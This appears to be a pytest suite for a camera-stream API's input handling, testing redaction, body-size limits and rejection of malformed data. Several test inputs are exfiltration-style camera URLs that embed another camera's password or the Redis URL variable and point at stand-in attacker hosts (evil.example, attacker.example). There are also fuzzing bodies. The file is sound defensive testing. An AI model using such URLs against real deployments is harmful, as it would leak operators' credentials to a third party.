"""The camera API's own answers to what a caller sends (`deployments/api.py`), on a real
redis-server, the FastAPI app driven in-process (Serve's replica context stands in for the
proxy): an API caller cannot make a decoder send its secrets elsewhere, a refused body never
echoes a password, a body of unknown length is refused."""

from __future__ import annotations

import asyncio
import contextlib
import json
import logging
import types

import cv2
import numpy as np
import pytest

from pipeline.config_env import foreign_variable_error
from pipeline.config import CameraConfig
from pipeline.redact import redact

from .conftest import DETECTOR, MODELS


@contextlib.contextmanager
def api_app(redis_url, prefix, monkeypatch, **config):
    """The camera API's FastAPI app with its instance made as Serve would (no decoder); ``config``:
    more of the config's sections (``security={...}``)."""
    from ray import serve

    import deployments.api as module

    percept_log = logging.getLogger("percept")  # a replica routes it to Serve's log file: put back after
    saved = list(percept_log.handlers), percept_log.level, percept_log.propagate
    ingress = module.CameraApi.func_or_class.__mro__[1]  # the class as written, under Serve's ingress wrapper
    instance = object.__new__(ingress)
    # (TestClient's requests name the host "testserver": listed as the operator would list a name)
    config = {**config, "security": {"api_hosts": ["testserver"], **config.get("security", {})}}
    try:
        ingress.__init__(instance, {"redis": {"url": redis_url, "stream_prefix": prefix}, **config}, decoder=None)
        monkeypatch.setattr(serve, "get_replica_context", lambda: types.SimpleNamespace(servable_object=instance))
        yield module.app
    finally:
        percept_log.handlers[:], percept_log.level, percept_log.propagate = saved


@pytest.fixture
def api(redis_server, monkeypatch):
    from fastapi.testclient import TestClient

    with api_app(redis_server.url, "apiin", monkeypatch) as app, TestClient(app, raise_server_exceptions=False) as client:
        yield client


def test_an_api_camera_names_only_its_own_variables_as_its_credentials(api, redis_server):
    """A decoder expands a URL's ${VAR}s from its whole environment and opens the host the URL
    names: over the API, ${PERCEPT_REDIS_URL} in a path, another camera's password, or its own in
    a host name (a DNS lookup) would carry them to the caller's host. Refused (422) naming the
    variable; a config file's cameras are not checked (the operator's)."""
    for url in ("rtsp://admin:${CAM_DOOR_PASSWORD}@evil.example/s", "rtsp://evil.example/${PERCEPT_REDIS_URL}",
                "rtsp://${CAM_X_PASSWORD}.evil.example/s", "http://cam/v.cgi?user=${CAM_X_USER}&pwd=${CAM_X_PASSWORD}"):
        r = api.post("/cameras", json={"id": "x", "url": url})
        assert r.status_code == 422, (url, r.text)
        [line] = r.json()["detail"]
        assert line.startswith("cameras[x].url: ${") and "names only its own variables (CAM_X_PASSWORD" in line, line
        assert redact(line) == line and "as in user:${CAM_X_PASSWORD}@host" in line, line  # `percept cameras add` shows it redacted
    assert redis_server.client().hgetall("apiin:cameras") == {}
    # another camera's variables by a prefix of its name (front-2's for front), or by an id that
    # maps to the same names (Dock and dock)
    r = api.post("/cameras", json={"id": "front", "url": "rtsp://x:${CAM_FRONT_2_PASSWORD}@evil.example/s"})
    assert r.status_code == 422 and "${CAM_FRONT_2_PASSWORD}: a camera added through the API" in r.text, r.text
    assert api.post("/cameras", json={"id": "dock", "url": "rtsp://cam.local/s"}).status_code == 201
    r = api.post("/cameras", json={"id": "Dock", "url": "rtsp://x:${CAM_DOCK_PASSWORD}@evil.example/s"})
    assert r.status_code == 422 and "would be camera 'dock''s too" in r.text, r.text
    assert api.delete("/cameras/dock").status_code == 200
    for url in ("rtsp://admin:${CAM_X_PASSWORD}@cam/s", "http://cam/v.cgi?user=admin&pwd=${CAM_X_PASSWORD}&ch=1"):
        r = api.post("/cameras", json={"id": "x", "url": url})
        assert r.status_code == 201, (url, r.text)
        assert api.delete("/cameras/x").status_code == 200
    assert foreign_variable_error(CameraConfig(id="front-2", url="rtsp://${CAM_FRONT_2_USER}:${CAM_FRONT_2_PASSWORD}@c/s"),
                                  "url") is None


def test_a_refused_body_never_echoes_what_was_sent(api):
    """FastAPI's own 422 quotes the input: a camera URL sent alone, its password in it."""
    for body in (json.dumps("rtsp://admin:S3cretPW@cam/x"), json.dumps([{"id": "a", "url": "rtsp://u:S3cretPW@c/x"}])):
        r = api.post("/cameras", content=body, headers={"content-type": "application/json"})
        assert r.status_code == 422 and "S3cretPW" not in r.text, r.text
        assert r.json()["detail"][0].startswith("body: "), r.text


def test_a_refused_camera_never_quotes_a_password_with_a_space_or_quote_in_it(api):
    """Our own 422 quotes a wrong value (a URL in a list, in a dict, one too long): free text's
    patterns stop a password at a space or a quote, and its rest came back."""
    for url in (["rtsp://admin:S3cret PW@cam/"], {"u": "rtsp://admin:S3cret'PW@cam/"},
                "rtsp://admin:S3cret PW@cam/" + "x" * 4100):
        r = api.post("/cameras", json={"id": "a", "url": url})
        (line,) = r.json()["detail"]
        assert r.status_code == 422 and line.startswith("url: ") and "rtsp://***@cam/" in line, r.text
        assert "S3cret" not in r.text and "PW" not in r.text and len(line) < 400, r.text
    # a URL pasted as a key: quoted with its password whole (a space in it), or, on a PUT, cut at
    # 200 characters before its "@" and then not scrubbed
    r = api.post("/cameras", json={"id": "a", "url": "rtsp://cam/s", "rtsp://admin:S3cret PW@cam/": 1})
    assert r.status_code == 422 and "S3cret" not in r.text and "PW@" not in r.text, r.text
    api.post("/cameras", json={"id": "k", "url": "rtsp://cam/s"})
    r = api.put("/cameras/k", json={"rtsp://admin:" + "S3cret" * 40 + "@host/": 1})
    assert r.status_code == 422 and "S3cret" not in r.text and "only zones" in r.text, r.text


def test_a_body_that_is_no_json_says_where_and_why(api):
    r = api.post("/cameras", content=b'{"id": "a",}', headers={"content-type": "application/json"})
    assert r.status_code == 422, r.text
    assert r.json()["detail"] == ["body: not valid JSON at character 11: Expecting property name enclosed in "
                                  "double quotes"], r.text


def test_a_body_without_a_length_is_refused(api):
    """The 1 MiB bound was checked on Content-Length only: a chunked body was read whole."""
    def chunks():
        yield b'{"id": "a", "url": "rtsp://cam/x", "pad": "'
        for _ in range(4):
            yield b"x" * (1 << 20)
        yield b'"}'

    r = api.post("/cameras", content=chunks(), headers={"content-type": "application/json"})
    assert r.status_code == 411 and "Content-Length" in r.json()["detail"], r.text
    assert api.post("/cameras", content=b"x" * (2 << 20), headers={"content-type": "application/json"}).status_code == 413


class _Unanswered:
    """A decoder handle while no decoder replica runs (starting, restarting after a crash):
    Serve's router waits for one without end, so a call's answer never comes."""

    def __getattr__(self, method):
        async def never():
            await asyncio.Event().wait()

        return types.SimpleNamespace(remote=lambda *args: never())


def test_with_no_decoder_answering_status_and_explain_are_503_not_a_hang(api, monkeypatch):
    import time

    import deployments.api as module
    import deployments.explain as explain

    instance = module.serve.get_replica_context().servable_object
    instance.decoder = instance.explainer.decoder = _Unanswered()
    monkeypatch.setattr(module, "DECODER_ANSWER_S", 0.5)
    monkeypatch.setattr(explain, "DECODER_ANSWER_S", 0.5)
    assert api.post("/cameras", json={"id": "cam", "url": "rtsp://cam.local/s"}).status_code == 201
    for path in ("/status", "/cameras/cam/explain?object=0"):
        t0 = time.monotonic()
        r = api.get(path)
        assert r.status_code == 503 and r.headers["Retry-After"], (path, r.status_code, r.text)
        assert "no decoder" in r.text and time.monotonic() - t0 < 30, (path, r.text)
    assert api.delete("/cameras/cam").status_code == 200


class _Dying:
    """A decoder handle whose replica dies during the call (ActorDiedError, a full queue's
    BackPressureError): the call raises."""

    def __getattr__(self, method):
        async def died():
            raise RuntimeError("The actor died unexpectedly before finishing this task.")

        return types.SimpleNamespace(remote=lambda *args: died())


def test_a_decoder_replica_dying_during_status_is_503_not_500(api):
    """/status answered 500 (a traceback in the log) when the decoder call raised, not only
    when it timed out: the CLI could not tell a restart from a fault."""
    import deployments.api as module

    instance = module.serve.get_replica_context().servable_object
    instance.decoder = _Dying()
    r = api.get("/status")
    assert r.status_code == 503 and r.headers["Retry-After"], (r.status_code, r.text)
    assert "RuntimeError" in r.text and "restarting" in r.text, r.text


def test_a_pixel_zone_outside_the_cameras_frames_is_refused_before_it_stops_the_camera(api, redis_server):
    """PUT accepted pixel zones and lines outside the frames the camera sends: at its next frame
    the camera failed naming the zone, and restarted failing. Its newest frame gives the size:
    refused (422) naming the point; nothing is written."""
    import json as json_

    from pipeline.streams import StreamKeys

    keys = StreamKeys("apiin")
    client = redis_server.client()
    assert api.post("/cameras", json={"id": "gate", "url": "rtsp://cam.local/s"}).status_code == 201
    try:
        assert api.put("/cameras/gate", json={"zones": {"z": [[0, 0], [1000, 0], [1000, 1000]]}}).status_code == 200
        client.xadd(keys.detections("gate"), {"json": json_.dumps({"camera": "gate", "seq": 1, "width": 640,
                                                                   "height": 480})})
        r = api.put("/cameras/gate", json={"zones": {"z": [[0, 0], [1000, 0], [1000, 1000]]}, "lines": {}})
        assert r.status_code == 422, r.text
        [line] = r.json()["detail"]
        assert line.startswith("cameras[gate].zones.z[1]: [1000, 0] is outside the 640x480 frame"), line
        r = api.put("/cameras/gate", json={"zones": {"z": [[0, 0], [600, 0], [600, 400]]}})
        assert r.status_code == 200 and r.json()["zones"] == {"z": [[0, 0], [600, 0], [600, 400]]}, r.text
    finally:
        api.delete("/cameras/gate")
        client.delete(keys.detections("gate"))


def test_pixel_zones_drawn_in_another_frame_size_do_not_block_a_change_after_a_change_of_resolution(api, redis_server):
    """Zones drawn on 1920x1080, the camera now at 1280x720 (its engine scales them): every PUT,
    even of a margin alone, was refused, the unchanged zone checked as 720p pixels. It is checked
    as the engine takes it, scaled from the frame size its track snapshot says; a changed or new
    one against the newest frame."""
    import json as json_

    from pipeline.streams import StreamKeys

    keys = StreamKeys("apiin")
    client = redis_server.client()
    porch = [[1200, 600], [1900, 600], [1900, 1070]]
    assert api.post("/cameras", json={"id": "door", "url": "rtsp://cam.local/s", "zones": {"porch": porch}}).status_code == 201
    try:
        client.xadd(keys.detections("door"), {"json": json_.dumps({"camera": "door", "seq": 9, "width": 1280,
                                                                   "height": 720})})
        client.hset(keys.trackstate("door"), "json", json_.dumps({"closed": True, "events": {
            "pixel_sizes": {"zones:porch": [1920, 1080]}, "zones": {"porch": porch}, "lines": {}}}))
        r = api.put("/cameras/door", json={"zone_margin": 0.2})
        assert r.status_code == 200 and r.json()["zone_margin"] == 0.2, r.text
        r = api.put("/cameras/door", json={"zones": {"porch": porch, "gate": [[0, 0], [1900, 0], [1900, 100]]}})
        assert r.status_code == 422 and r.json()["detail"][0].startswith("cameras[door].zones.gate[1]: [1900, 0] is "
                                                                         "outside the 1280x720 frame"), r.text
    finally:
        api.delete("/cameras/door")
        client.delete(keys.detections("door"), keys.trackstate("door"))


def test_a_camera_added_again_is_not_checked_against_the_frames_its_id_had_before(api, redis_server):
    """DELETE and POST is how a camera's URL changes: PUT checked pixel zones against the old
    camera's newest frame (640x480), refusing the new one's (1920x1080) or accepting zones that
    then stopped it at its first frame. Frames from before it was added do not count."""
    import json as json_

    from pipeline.streams import StreamKeys

    keys = StreamKeys("apiin")
    client = redis_server.client()
    assert api.post("/cameras", json={"id": "gate", "url": "rtsp://cam.local/old"}).status_code == 201
    try:
        client.xadd(keys.detections("gate"), {"json": json_.dumps({"camera": "gate", "seq": 1, "width": 640,
                                                                   "height": 480})})
        assert api.delete("/cameras/gate").status_code == 200
        assert api.post("/cameras", json={"id": "gate", "url": "rtsp://cam.local/new"}).status_code == 201
        r = api.put("/cameras/gate", json={"zones": {"z": [[0, 0], [1000, 600], [0, 600]]}})
        assert r.status_code == 200, r.text
    finally:
        api.delete("/cameras/gate")
        client.delete(keys.detections("gate"))


def test_a_camera_id_added_again_is_listed_without_the_removed_cameras_numbers(api, redis_server):
    """`GET /cameras` (the page's tiles, `cameras ls`) showed a camera added again under an id with
    the state, rates, errors and newest objects of the camera that id had before: a new camera
    that never connected showed someone else's cars. The counters that keep its ids rising stay."""
    import json as json_

    from pipeline.streams import StreamKeys

    keys = StreamKeys("apiin")
    client = redis_server.client()
    frame = {"camera": "gate", "seq": 1, "objects": [{"category": "vehicle"}] * 3, "latency_ms": {"total": 87.0}}

    def listed() -> dict:
        return next(c for c in api.get("/cameras").json() if c["id"] == "gate")

    assert api.post("/cameras", json={"id": "gate", "url": "rtsp://cam.local/old"}).status_code == 201
    try:
        client.xadd(keys.detections("gate"), {"json": json_.dumps(frame)})
        client.hset(keys.camera("gate"), mapping={"state": "online", "fps": "4.9", "dropped": "12", "publish_dropped": "30",
                                                  "track_id_max": "41",
                                                  "last_error": "old trouble", "url": "rtsp://cam.local/old"})
        old = listed()
        assert (old["state"], old["fps"], old["dropped"], old["publish_dropped"], old["objects"]) == \
            ("online", 4.9, 12, 30, {"vehicle": 3}), old
        assert api.delete("/cameras/gate").status_code == 200
        assert api.post("/cameras", json={"id": "gate", "url": "rtsp://cam.local/new"}).status_code == 201
        new = listed()
        assert new == {"id": "gate", "url": "rtsp://cam.local/new", "fps_target": new["fps_target"], "state": "pending",
                       "fps": 0.0, "dropped": 0, "publish_dropped": 0, "lag_s": None, "last_error": None, "objects": {},
                       "e2e_ms": None, "writes_refused": None}, new
        assert client.hget(keys.camera("gate"), "track_id_max") == b"41"  # (its next ids above the old ones)
        client.xadd(keys.detections("gate"), {"json": json_.dumps({**frame, "objects": [{"category": "pedestrian"}]})})
        assert listed()["objects"] == {"pedestrian": 1}  # its own frames are shown
    finally:
        api.delete("/cameras/gate")
        client.delete(keys.detections("gate"), keys.camera("gate"))


def test_a_camera_id_added_again_never_shows_the_removed_cameras_image(api, redis_server):
    """The live image of a removed camera stayed under its id for its TTL (up to a minute for a
    slow camera): a camera added again under that id, another source, showed it once online."""
    from pipeline.streams import StreamKeys

    key = StreamKeys("apiin").view_jpeg("door")
    client = redis_server.client()
    assert api.post("/cameras", json={"id": "door", "url": "rtsp://cam.local/old"}).status_code == 201
    client.set(key, b"\xff\xd8 the old camera's image", px=60_000)
    assert api.delete("/cameras/door").status_code == 200
    assert not client.exists(key)
    client.set(key, b"\xff\xd8 written late by the replica that ran it", px=60_000)
    assert api.post("/cameras", json={"id": "door", "url": "rtsp://cam.local/new"}).status_code == 201
    try:
        assert not client.exists(key)
    finally:
        api.delete("/cameras/door")


def test_a_host_the_operator_pinned_keeps_a_cameras_variables_from_any_other_host():
    """An API caller could DELETE camera dock and POST a dock naming its own host: the decoders
    sent CAM_DOCK_PASSWORD there. With CAM_DOCK_HOST set (the operator's environment) the
    variables are expanded for that host only; the camera fails naming both hosts, no secret."""
    from pipeline.config_env import CameraEnvError, resolve_camera

    stolen = CameraConfig.model_validate({"id": "dock", "url": "rtsp://viewer:${CAM_DOCK_PASSWORD}@attacker.example/s"})
    assert foreign_variable_error(stolen, "url") is None  # the API takes it: its own variable, as its password
    env = {"CAM_DOCK_PASSWORD": "Sup3rSecret", "CAM_DOCK_HOST": "10.0.0.9"}
    with pytest.raises(CameraEnvError) as refused:
        resolve_camera(stolen, env)
    assert "'attacker.example'" in str(refused.value) and "CAM_DOCK_HOST" in str(refused.value)
    assert "Sup3rSecret" not in str(refused.value)
    own = stolen.model_copy(update={"url": "rtsp://viewer:${CAM_DOCK_PASSWORD}@10.0.0.9:554/s"})
    assert resolve_camera(own, env).url == "rtsp://viewer:Sup3rSecret@10.0.0.9:554/s"
    assert "attacker.example" in resolve_camera(stolen, {"CAM_DOCK_PASSWORD": "x"}).url  # no pin: as before
    # a password that makes the host unreadable (an unescaped @ /, a [..]) names no piece of it
    for password in ("Tr0ub@dor/horse", "a[Secret]b"):
        with pytest.raises(CameraEnvError) as unreadable:
            resolve_camera(own, {**env, "CAM_DOCK_PASSWORD": password})
        assert "dor" not in str(unreadable.value) and "Secret" not in str(unreadable.value), unreadable.value
    assert resolve_camera(own, {"CAM_DOCK_PASSWORD": "a[Secret]b"}).url.endswith("@10.0.0.9:554/s")  # no pin: FFmpeg's
    # no pin either: a password with an unescaped "@" and "/" made FFmpeg look up host "dor" and
    # offer it "Tr0ub"; an "@" the URL itself has after its host is as before
    with pytest.raises(CameraEnvError, match="must be percent-encoded") as ambiguous:
        resolve_camera(own, {"CAM_DOCK_PASSWORD": "Tr0ub@dor/horse"})
    assert "dor" not in str(ambiguous.value).replace("percent-encoded", ""), ambiguous.value
    notify = own.model_copy(update={"url": own.url + "?notify=ops@example.com"})
    assert resolve_camera(notify, {"CAM_DOCK_PASSWORD": "x"}).url.endswith("/s?notify=ops@example.com")


def test_one_cameras_odd_redis_data_costs_its_row_not_the_whole_listing(api, redis_server):
    """A hash field that is no number, a key of another type or bytes that are not UTF-8 in one
    camera's keys (not written by percept) made `GET /cameras` a 500: the live page then said
    "cannot reach the API" for every camera, and `percept cameras ls` failed."""
    from pipeline.streams import StreamKeys

    keys = StreamKeys("apiin")
    client = redis_server.client()
    for cid in ("a", "b", "c"):
        assert api.post("/cameras", json={"id": cid, "url": f"rtsp://cam.local/{cid}"}).status_code == 201
    try:
        client.hset(keys.camera("a"), mapping={"state": "online", "fps": "", "dropped": "n/a"})
        client.set(keys.detections("b"), "a string, not a stream")
        client.hset(keys.camera("c"), mapping={"state": b"\xff\xfeonline", "fps": "4.5"})
        r = api.get("/cameras")
        assert r.status_code == 200, r.text
        rows = {c["id"]: c for c in r.json()}
        assert (rows["a"]["fps"], rows["a"]["dropped"], rows["c"]["fps"]) == (0.0, 0, 4.5), rows
        assert rows["b"]["objects"] == {} and rows["c"]["state"].endswith("online"), rows
    finally:
        for cid in ("a", "b", "c"):
            api.delete(f"/cameras/{cid}")
            client.delete(keys.camera(cid), keys.detections(cid))


def test_a_camera_whose_keys_hold_another_type_gets_a_503_naming_the_key_from_the_image_routes(api, redis_server):
    """A camera hash or image key of another type (not written by percept): the listing said
    ``unreadable`` on its row, the snapshot and MJPEG routes answered 500 with Redis's WRONGTYPE."""
    from pipeline.streams import StreamKeys

    keys = StreamKeys("apiin")
    client = redis_server.client()
    assert api.post("/cameras", json={"id": "odd", "url": "rtsp://cam.local/s"}).status_code == 201
    try:
        for key, write in ((keys.camera("odd"), lambda k: client.set(k, "x")),
                           (keys.view_jpeg("odd"), lambda k: client.hset(k, "a", "b"))):
            write(key)
            for route in ("/cameras/odd/snapshot.jpg", "/cameras/odd/live"):
                r = api.get(route)
                assert r.status_code == 503, (key, route, r.status_code, r.text)
                detail = r.json()["detail"]
                assert detail["state"] == "unreadable" and detail["last_error"].startswith(f"{key}: "), detail
            client.delete(key)
    finally:
        api.delete("/cameras/odd")
        client.delete(keys.camera("odd"), keys.view_jpeg("odd"))


def test_head_on_a_snapshot_answers_as_get_without_the_image(api, redis_server):
    """A monitor checks a camera's image with HEAD (``curl -I``): it got 405. Now the answer GET
    would give, without a body: 404 for an unknown camera, 503 with Retry-After for one that does
    not run, 200 with the image's length for one online with an image."""
    from pipeline.streams import StreamKeys

    keys = StreamKeys("apiin")
    client = redis_server.client()
    assert api.head("/cameras/nope/snapshot.jpg").status_code == 404
    assert api.post("/cameras", json={"id": "door", "url": "rtsp://cam.local/s"}).status_code == 201
    try:
        r = api.head("/cameras/door/snapshot.jpg")
        assert r.status_code == 503 and r.headers["retry-after"] and r.content == b"", (r.status_code, r.headers)
        jpeg = cv2.imencode(".jpg", np.zeros((32, 48, 3), np.uint8))[1].tobytes()
        client.hset(keys.camera("door"), mapping={"state": "online"})
        client.set(keys.view_jpeg("door"), jpeg)
        r = api.head("/cameras/door/snapshot.jpg")
        assert r.status_code == 200 and r.content == b"", (r.status_code, r.text)
        assert (r.headers["content-type"], int(r.headers["content-length"])) == ("image/jpeg", len(jpeg)), r.headers
    finally:
        api.delete("/cameras/door")
        client.delete(keys.camera("door"), keys.view_jpeg("door"))


def test_odd_keys_and_pasted_secrets_get_a_4xx_naming_the_field_and_quote_no_secret(api, redis_server):
    """What a fuzzing of the API found: a POST over a camera hash of another type answered 500
    and still listed the camera; a PUT over a detections key of another type answered 500; a
    PUT's unknown key, a swap's weights or card, and a password in a URL's fragment came back (the
    fragment's stored in clear); a line break inside a URL was taken; ``NaN`` was "<= 3600"."""
    from pipeline.streams import StreamKeys

    keys = StreamKeys("apiin")
    client = redis_server.client()
    client.set(keys.camera("wt"), "x")
    try:
        r = api.post("/cameras", json={"id": "wt", "url": "rtsp://cam.local/s"})
        assert r.status_code >= 500 and not client.hexists("apiin:cameras", "wt"), (r.status_code, r.text)
    finally:
        client.delete(keys.camera("wt"))
    assert api.post("/cameras", json={"id": "wt", "url": "rtsp://cam.local/s"}).status_code == 201
    client.set(keys.detections("wt"), "x")
    try:
        r = api.put("/cameras/wt", json={"zones": {"z": [[0, 0], [1, 0], [1, 1]]}})
        assert r.status_code == 200, r.text
        r = api.put("/cameras/wt", json={"rtsp://admin:Hunter2Secret@cam/": 1, "password=Hunter2Secret": 1})
        assert r.status_code == 422 and "Hunter2Secret" not in r.text and "only zones" in r.text, r.text
    finally:
        api.delete("/cameras/wt")
        client.delete(keys.detections("wt"))
    for url, says in (("rtsp://10.0.0.5/s#password=Hunter2Secret", "inline password refused"),
                      ("rtsp://cam/a\nb", "a control character"), ("rtsp://cam/\x00x", "a control character")):
        r = api.post("/cameras", json={"id": "fr", "url": url})
        assert r.status_code == 422 and r.json()["detail"][0].startswith(("url: ", "cameras[fr].url: ")), (url, r.text)
        assert says in r.text, (url, r.text)
        assert "Hunter2Secret" not in r.text and not client.hexists("apiin:cameras", "fr")
    for body, field in (({"weights": "https://admin:Hunter2Secret@host/x.pt"}, "weights"),
                        ({"weights": "https://host/x.pt?token=Hunter2Secret"}, "weights"),
                        ({"weights": str(MODELS / DETECTOR), "card": "https://u:Hunter2Secret@h/c.yaml"}, "card")):
        r = api.put("/models/detector", json=body)
        assert r.status_code == 422 and r.json()["detail"][0].startswith(f"{field}: ") and "Hunter2Secret" not in r.text, r.text
    r = api.put("/models/detector", content=b'{"weights": "x.pt", "timeout_s": NaN}', headers={"content-type": "application/json"})
    assert r.status_code == 422 and "timeout_s" in r.text and "finite" in r.text, r.text


@pytest.mark.parametrize("body, says", [(b'{"id": "\xff\xfe", "url": "rtsp://cam/s"}', "body: not UTF-8 (byte 8)"),
                                        (b"[" * 100_000 + b"]" * 100_000, "body: nested too deeply"),
                                        (b'{"id": "a", "url": "rtsp://cam/s", "fps": ' + b"9" * 5000 + b"}",
                                         "body: cannot be read: Exceeds the limit (4300 digits)")])
def test_a_body_json_cannot_read_gets_a_400_saying_why(api, body, says):
    """FastAPI answered "There was an error parsing the body" to all three."""
    r = api.post("/cameras", content=body, headers={"content-type": "application/json"})
    assert r.status_code == 400 and r.json()["detail"].startswith(says), r.text
    assert api.get("/cameras/none/snapshot.jpg").status_code == 404  # other HTTP errors as before


def test_a_config_files_camera_posted_again_is_409_saying_whose_it_is(api, redis_server):
    """The same settings as the config file's camera were answered 201 "added": the camera stayed
    the file's, and went without a word when the file dropped it."""
    from pipeline.config import CameraConfig
    from pipeline.registry import CameraRegistry
    from pipeline.streams import StreamKeys

    CameraRegistry(redis_server.client(), StreamKeys("apiin")).seed([CameraConfig(id="file-cam", url="rtsp://cam.local/s")])
    r = api.post("/cameras", json={"id": "file-cam", "url": "rtsp://cam.local/s"})
    assert r.status_code == 409 and "exists, from the config file" in r.json()["detail"], r.text
